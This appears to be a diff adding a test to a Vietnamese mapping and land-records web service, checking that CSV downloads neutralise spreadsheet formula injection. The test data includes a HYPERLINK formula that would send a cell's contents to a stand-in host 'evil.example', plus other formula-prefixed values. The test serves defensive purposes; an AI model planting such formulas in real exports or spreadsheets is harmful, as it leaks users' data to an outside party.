@@ -8,6 +8,7 @@ import subprocess
 import sys
 import zipfile
 from collections import Counter
+from decimal import Decimal
 from pathlib import Path
 
 import pyogrio
@@ -282,3 +283,56 @@ def test_cli_export_writes_a_filtered_vn2000_geopackage(database_url, engine, tm
     assert internal.returncode == 0, internal.stderr
     with zipfile.ZipFile(tmp_path / "p.zip") as archive:
         assert "fields.csv" in archive.namelist()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
+
+
+def test_csv_downloads_neutralise_formulas_and_keep_numbers(client, staff, edits, engine):
+    gate = {
+        "type": "Feature",
+        "geometry": {"type": "Point", "coordinates": [105.60, 10.80]},
+        "properties": {
+            "uid": "TEST-CK-CSV",
+            "name_vi": HYPERLINK,
+            "name_en": "+84 236 3822 123",
+            "gate_class": "main",
+            "mode": "road",
+            "country": "VN",
+            "province_code": "DONG_THAP",
+            "notes": "@SUM(1+1)",
+        },
+    }
+    created = client.post(
+        "/collections/border_gates/items",
+        json=gate,
+        headers={**staff["editor"], "Content-Type": "application/geo+json"},
+    )
+    assert created.status_code == 201, created.text
+    response = client.get(
+        "/collections/border_gates/items", params={"f": "csv", "geometry": "xy", "uid": "TEST-CK-CSV"}
+    )
+    (row,) = csv.DictReader(response.content.decode("utf-8").splitlines())
+    assert row["name_vi"] == "'" + HYPERLINK and row["name_en"] == "'+84 236 3822 123" and row["notes"] == "'@SUM(1+1)"
+    assert float(row["x"]) == pytest.approx(105.60) and float(row["y"]) == pytest.approx(10.80)
+
+    # The land finder's CSV: a plot renamed for the test, its numbers still numbers.
+    with engine.connect() as conn:
+        plot_id, uid, name, area = conn.execute(
+            text(
+                "SELECT id, uid, name_vi, area_ha FROM land_plots WHERE valid_to IS NULL AND status = 'available' "
+                "ORDER BY id LIMIT 1"
+            )
+        ).one()
+    try:
+        with engine.begin() as conn:
+            conn.execute(
+                text("UPDATE land_plots SET name_vi = :n WHERE id = :i"), {"n": "-1+" + HYPERLINK, "i": plot_id}
+            )
+        response = client.get("/api/land/available", params={"f": "csv", "uid": uid})
+        (row,) = csv.DictReader(response.content.decode("utf-8-sig").splitlines())
+        assert row["name_vi"] == "'-1+" + HYPERLINK
+        assert Decimal(row["area_ha"]) == pytest.approx(area, abs=Decimal("0.01"))
+    finally:
+        with engine.begin() as conn:
+            conn.execute(text("UPDATE land_plots SET name_vi = :n WHERE id = :i"), {"n": name, "i": plot_id})
